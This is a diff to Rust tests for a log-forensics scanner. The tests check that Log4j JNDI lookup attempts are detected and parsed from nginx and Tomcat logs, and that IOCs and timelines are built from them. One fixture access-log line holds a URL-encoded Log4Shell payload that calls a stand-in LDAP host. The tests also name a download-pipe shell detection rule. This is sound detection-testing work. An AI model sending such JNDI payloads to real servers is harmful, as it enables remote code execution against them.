@@ -506,18 +506,23 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
         .iter()
         .any(|h| h["locator"]["artifact"] == "c/abc-json.log.1" && h["rule"] == "shell.download-pipe"));
     // IOCs per bundle: the callback domain carried by two hits, the request source IP.
-    let iocs = b["iocs"].as_array().unwrap();
+    let iocs = b["log_indicators"].as_array().unwrap();
     let cb = iocs.iter().find(|i| i["type"] == "domain" && i["value"] == "cb.example").unwrap();
     assert_eq!(cb["count"], 2);
     assert_eq!(cb["first_seen"], "2026-11-27T13:00:00.000000000Z");
     assert_eq!(cb["last_seen"], "2026-11-27T13:30:00.000000000Z");
     assert!(iocs.iter().any(|i| i["value"] == "198.51.100.4" && i["roles"][0] == "request-source"));
-    // One finding per rule, with the proof from both logs, and log-hit timeline events.
+    // Nothing followed the JNDI requests: they are attempts (never a compromise), listed
+    // with the proof from both logs, and log-hit timeline events.
     let f: Vec<_> =
-        b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "log.log4j.jndi-lookup").collect();
-    assert_eq!(f.len(), 1);
-    let members: Vec<&str> =
-        f[0]["evidence"].as_array().unwrap().iter().filter_map(|l| l["members"][0].as_str()).collect();
+        b["attempts"].as_array().unwrap().iter().filter(|a| a["rule"] == "log.log4j.jndi-lookup").collect();
+    assert!(!f.is_empty(), "{:#}", b["attempts"]);
+    assert!(f.iter().all(|a| a["outcome"] == "unconfirmed"), "{f:#?}");
+    let members: Vec<&str> = f
+        .iter()
+        .flat_map(|a| a["evidence"].as_array().unwrap().iter())
+        .filter_map(|l| l["members"][0].as_str())
+        .collect();
     assert!(members.contains(&"var/log/nginx/access.log"), "{members:?}");
     assert!(members.contains(&"usr/local/tomcat/logs/catalina.out"), "{members:?}");
     assert!(b["timeline"].as_array().unwrap().iter().any(|e| e["kind"] == "log-hit"));
@@ -552,6 +557,33 @@ fn logs_command_text_json_and_user_rules() {
     assert_eq!(h["jndi"]["scheme"], "ldap");
     assert_eq!(h["attack"], "T1190");
     assert!(h["iocs"].as_array().unwrap().iter().any(|i| i == "domain:a.example"));
+}
+
+#[test]
+fn web_hits_carry_the_parsed_request_and_validate_against_the_schema() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            b"192.0.2.10 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
+203.0.113.66 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D HTTP/1.1\" 404 153 \"http://ref.example/\" \"curl/8.4.0\"\n",
+        )],
+    );
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    crate::util::validate_against_schema(&v);
+    let h = &v["bundles"][0]["log_hits"][0];
+    assert_eq!(h["rule"], "log4j.jndi-lookup");
+    let r = &h["http"];
+    assert_eq!(r["client"], "203.0.113.66");
+    assert_eq!(r["method"], "GET");
+    assert_eq!(r["path"], "/");
+    assert_eq!(r["query"], "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D");
+    assert_eq!(r["status"], 404);
+    assert_eq!(r["bytes"], 153);
+    assert_eq!(r["referer"], "http://ref.example/");
+    assert_eq!(r["user_agent"], "curl/8.4.0");
+    assert!(r.get("host").is_none(), "absent parts are left out: {r}");
 }
 
 #[test]
